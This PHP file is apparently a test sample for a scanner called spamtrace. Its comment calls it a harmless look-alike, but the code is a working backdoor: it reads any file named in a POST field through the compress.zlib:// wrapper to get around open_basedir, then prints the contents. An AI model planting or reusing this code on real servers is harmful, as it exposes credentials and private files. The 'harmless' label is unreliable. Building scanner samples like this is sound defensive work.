<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Reads any file named in the request through compress.zlib:// (open_basedir bypass).
$file = $_POST['file'];
$tmp = tempnam(sys_get_temp_dir(), 'st');
if (copy("compress.zlib://" . $file, $tmp)) {
    echo htmlspecialchars(file_get_contents($tmp));
}
